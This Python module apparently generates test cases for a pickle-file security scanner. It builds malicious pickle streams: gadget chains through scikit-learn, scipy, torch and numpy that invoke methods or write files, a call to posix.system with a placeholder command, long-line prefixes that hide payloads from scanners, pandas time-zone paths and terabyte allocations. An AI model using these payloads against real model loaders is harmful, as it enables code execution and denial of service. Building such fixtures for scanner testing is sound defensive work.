"""Proofs of reviewers who tried to come past the list of names: listed names, put together.

Each was a file that an earlier list let pass. They write, read or run nothing here: names lead
nowhere, and sizes are only claimed.
"""

import struct
from collections.abc import Iterator

from hostile_artifacts.case import GADGET, STREAM, Build, Case, Least
from hostile_artifacts.opcodes import (
    COMMAND,
    PAYLOAD,
    PLACE,
    Code,
    call,
    named,
    push,
    stacked,
    text,
    whole,
)

_LINE = 5_000
"""Characters of a first line that is longer than what a scanner sees before it reads."""
_MANY = 1 << 40
_ZONE = f"dateutil/{PLACE}"
"""A time zone that is the path of a file; a pipe under that path never ends."""


def made(module: str, name: str, state: dict[str, object]) -> Code:
    """An object that is made empty and given attributes."""
    return Code(named(module, name) + b")\x81" + push(state) + b"b")


def _callback() -> Code:
    """A callback of scikit-learn that calls a method, by name, of an object that the file gives."""
    stack = made(
        "sklearn.ensemble._stacking",
        "StackingRegressor",
        {
            "estimators_": [call(named("pathlib", "PosixPath"), PLACE)],
            "stack_method_": ["write_text"],
        },
    )
    return made(
        "sklearn.linear_model._stochastic_gradient",
        "_ValidationScoreCallback",
        {"estimator": stack, "X_val": COMMAND},
    )


def _distance(function: Code) -> Code:
    """A distance that is a function of the file."""
    module = "sklearn.metrics._dist_metrics"
    empty = call(named(module, "newObj"), named(module, "PyFuncDistance64"))
    state = (2.0, push([]), push([]), function, {"response_method": "tofile", "X": PLACE})
    return Code(empty + _state(state) + b"b")


def _state(values: tuple[object, ...]) -> Code:
    return Code(b"(" + b"".join(_number(one) for one in values) + b"t")


def _number(value: object) -> bytes:
    return b"G" + struct.pack(">d", value) if isinstance(value, float) else push(value)


def _tree(distance: Code) -> Code:
    """A ball tree asks its distance for the distance of all points, as it is made."""
    return call(named("sklearn.neighbors._ball_tree", "BallTree"), [[1]], 40, distance)


def _namespace(**attributes: object) -> Code:
    return Code(
        named("types", "SimpleNamespace") + b")\x81" + push(attributes) + b"b",
    )


def _hooks() -> dict[str, tuple[str, bytes]]:
    """Attributes under the names of what an unpickler calls."""
    hook = _callback()
    listed = named("collections", "UserList") + b")\x81"
    return {
        "attribute-for-its-state": (
            "own-methods",
            _namespace(__setstate__=hook) + push(1) + b"b",
        ),
        "attribute-for-appending": ("own-methods", _namespace(append=hook) + push(1) + b"a"),
        "attribute-for-appending-one-deeper": (
            "own-methods",
            listed + push({"data": _namespace(append=hook)}) + b"b" + push(1) + b"a",
        ),
        "item-for-its-state": (
            "own-methods",
            named("scipy.optimize._optimize", "OptimizeResult")
            + b")\x81"
            + push("__setstate__")
            + hook
            + b"s"
            + push(1)
            + b"b",
        ),
    }


def _functions() -> dict[str, tuple[str, bytes]]:
    """Functions of libraries that call what they are given."""
    cached = named("sklearn.metrics._scorer", "_cached_call")
    places = {"data": (0x4141, False), "shape": (4,), "typestr": "<i8", "version": 3}
    return {
        "distance-that-is-a-function": ("callbacks", _tree(_distance(cached))),
        "distance-that-is-a-callback": ("callbacks", _tree(_distance(_callback()))),
        "array-of-foreign-memory": (
            "foreign-memory",
            call(named("numpy", "matrix"), _namespace(__array_interface__=places)),
        ),
        "loader-of-a-module-writes-a-file": (
            "file-write",
            call(stacked("torch.jit._pickle", "__loader__.set_data"), PLACE, b"x"),
        ),
    }


def _wrapper(kind: bytes, size: int) -> bytes:
    """What joblib writes in front of the raw bytes of an array of one row."""
    state = {
        "subclass": named("numpy", "ndarray"),
        "shape": (size,),
        "order": "C",
        "dtype": Code(kind),
        "allow_mmap": False,
        "numpy_array_alignment_bytes": None,
    }
    return named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + push(state) + b"b"


def _remembered(number: int, value: str) -> bytes:
    return text(value) + b"q" + bytes([number]) + b"0"


def _puns() -> dict[str, bytes]:
    """To joblib the bytes of an array, to pickle instructions: both readings have to be judged."""
    numbers = call(named("numpy", "dtype"), "u1", False, True)
    objects = call(named("numpy", "dtype"), "O8", False, True)
    hidden = _remembered(0, "posix") + _remembered(1, "system")
    front = _remembered(0, "collections") + _remembered(1, "OrderedDict")
    end = b"h\x00h\x01\x93" + push((COMMAND,)) + b"R."
    inner = b"\x80\x04" + text("numpy") + b"\x940" + text("str_") + b"\x940" + end
    return {
        "array-that-is-instructions-to-pickle": b"\x80\x04"
        + front
        + _wrapper(numbers, len(hidden))
        + hidden
        + b"0"
        + end,
        "array-of-objects-that-goes-on-to-pickle": b"\x80\x04"
        + _remembered(0, "posix")
        + _remembered(1, "system")
        + _wrapper(objects, 1)
        + inner
        + b".",
    }


def _lines() -> dict[str, bytes]:
    """A first line so long that its kind is decided before its end is seen."""
    tail = b"0" + PAYLOAD + b"."
    word = b"a" * _LINE
    return {
        "long-first-text": b"V" + word + b"\n" + tail,
        "long-first-string": b"S'" + word + b"'\n" + tail,
        "long-first-float": b"F1." + b"0" * _LINE + b"\n" + tail,
        "long-first-binary-text": b"X" + struct.pack("<I", _LINE) + word + tail,
        "long-first-binary-string": b"T" + struct.pack("<i", _LINE) + word + tail,
        "prose-in-front": b"V" + b"the quick brown fox. " * 300 + b"\n" + tail,
        "none-and-prose-in-front": b"NV" + b"the quick brown fox. " * 300 + b"\n0" + tail,
        "numbers-in-front": b"I1\n0" * 3_000 + PAYLOAD + b".",
    }


def _zones() -> dict[str, bytes]:
    """A text that pandas takes for the path of a file."""
    return {
        "zone-of-an-index-of-times": call(
            named("pandas.core.indexes.datetimes", "DatetimeIndex"), [1], None, _ZONE
        ),
        "zone-in-the-type-of-a-series": call(
            named("pandas.core.series", "Series"), [1], None, f"datetime64[ns, {_ZONE}]"
        ),
        "zone-in-the-type-of-an-index": call(
            named("pandas.core.indexes.base", "Index"), [1], f"datetime64[ns, {_ZONE}]"
        ),
        "zone-in-the-type-of-intervals": call(
            named("pandas.core.dtypes.dtypes", "IntervalDtype"),
            f"interval[datetime64[ns, {_ZONE}], right]",
        ),
        "zone-in-a-dict": call(
            named("pandas.core.indexes.datetimes", "_new_DatetimeIndex"),
            named("pandas.core.indexes.datetimes", "DatetimeIndex"),
            {"data": [1], "tz": _ZONE, "freq": None},
        ),
    }


def _sizes() -> dict[str, bytes]:
    """A few bytes that ask for a terabyte; whoever opens them has no memory left."""
    many = b"\x8a\x06" + _MANY.to_bytes(6, "little")
    one = Code(many)
    return {
        "bytes-of-a-terabyte": call(named("builtins", "bytes"), one),
        "array-of-a-terabyte": call(named("numpy", "ndarray"), (one,), "V1"),
    }


def cases() -> Iterator[Case]:
    """Every proof."""
    for name, (weakness, body) in {**_hooks(), **_functions()}.items():
        yield _one(name, weakness, whole(body, protocol=4))
    for name, stream in _puns().items():
        yield _one(name, "array-pun", stream, family=STREAM, bare=False)
    for name, stream in _lines().items():
        yield _one(name, "long-before-payload", stream, family=STREAM)
    for name, body in _zones().items():
        yield _one(name, "zone-file", whole(body))
    for name, body in _sizes().items():
        yield _one(name, "memory", whole(body), least="inconclusive")


def _one(
    name: str,
    weakness: str,
    stream: bytes,
    *,
    family: str = GADGET,
    least: Least = "malicious",
    bare: bool = True,
) -> Case:
    content: Build = lambda: stream  # noqa: E731 (the same one twice)
    return Case(
        name=name,
        family=family,
        weakness=weakness,
        ending=".pkl",
        content=content,
        least=least,
        pickle=content if bare else None,
    )
